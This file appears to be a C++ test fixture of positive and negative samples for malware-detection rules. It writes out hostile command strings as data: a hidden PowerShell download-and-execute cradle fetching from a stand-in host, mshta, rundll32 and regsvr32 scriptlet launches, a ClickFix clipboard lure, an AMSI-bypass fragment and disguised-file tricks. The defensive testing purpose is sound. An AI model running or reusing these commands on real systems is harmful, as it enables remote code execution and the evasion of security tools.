#include "tests/rules/samples.h"

namespace weir {
namespace {

// A shell link header ([MS-SHLLINK] 2.1) and its arguments.
std::string shortcut(const std::string& arguments) {
  return std::string("\x4c\0\0\0\x01\x14\x02\0", 8) + std::string(68, '\0') + wide_text(arguments);
}

}  // namespace

std::vector<RuleSample> launcher_samples() {
  const std::string ps = "power"
                         "shell",
                    code = "JABhAD0A" + std::string(80, 'A');
  const std::string page =
      "<html>Verify that you are human: press Windows + R, Ctrl + V, Enter."
      "<script>navigator.clip"
      "board.writeText('ms"
      "hta http://a.test')";
  const std::string hidden = " -w hidden -c \"IEX (New-Object Net.WebClient).Download";
  return {
      {"weir_powershell_encoded_launcher", "cmd /c " + ps + ".exe -nop -enc " + code,
       "cmd /c " + ps + ".exe -nop -enc " + std::string(80, 'A')},
      {"weir_powershell_hidden_download", ps + hidden + "String('http://a.test')\"",
       ps + " -c \"IEX (New-Object Net.WebClient).Download"
            "String('http://a.test')\""},
      {"weir_scriptlet_command",
       "ms"
       "hta vbscript:Create"
       "Object(\"x\")",
       "ms"
       "hta page.hta"},
      {"weir_scriptlet_command",
       "rund"
       "ll32.exe java"
       "script:\"\\..\\mshtml,RunHTMLApplication \"",
       "rund"
       "ll32.exe shell32.dll,Control_RunDLL"},
      {"weir_scriptlet_command",
       "regs"
       "vr32 /s /n /u /i:http://a.test/x.sct scr"
       "obj.dll",
       "regs"
       "vr32 /s /n /u /i:local.sct other.dll"},
      {"weir_shortcut_unpacks_itself",
       shortcut("cmd /c find"
                "str x photo.lnk > a & start a"),
       shortcut("cmd /c dir photo.lnk & start a")},
      {"weir_shortcut_hides_arguments", shortcut(std::string(100, ' ') + "/c calc"),
       shortcut(std::string(20, ' ') + "/c calc")},
      {"weir_clickfix_page", page, "<html>Press Windows + R and Ctrl + V to install with " + ps},
      {"weir_defence_evasion_script",
       "[Ref].Assembly.GetType('x').GetField('amsi"
       "InitFailed');iex $w.Download"
       "String('x')",
       "[Ref].Assembly.GetType('x').GetField('amsi"
       "InitFailed')"},
  };
}

std::vector<RuleSample> shipped_first_samples() {
  const std::string eicar =
      "X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
      "EICAR-STANDARD-"
      "ANTIVIRUS-TEST-FILE!$H+H*";
  const std::string save = "<script>var b = new Blob([d]); a.download = 'x'; ";
  const std::string stub =
      "VGhpcyBwcm9ncmFtIGNhbm5vdCBi"
      "ZSBydW4gaW4gRE9TIG1vZG";
  const std::string name =
      "ann\xe2\x80\xae"
      "fdp.exe";
  return {
      {"weir_eicar_test_file", eicar, eicar.substr(0, 60)},
      {"weir_shortcut_runs_interpreter",
       shortcut("power"
                "shell -w hidden x"),
       shortcut("power"
                "shell -File backup.ps1")},
      {"weir_html_smuggles_program", save + stub, save + stub.substr(0, 40)},
      {"weir_program_with_reversed_name", "PK\x03\x04" + name,
       "PK\x03\x04"
       "annexe.pdf.exe"},
  };
}

}  // namespace weir
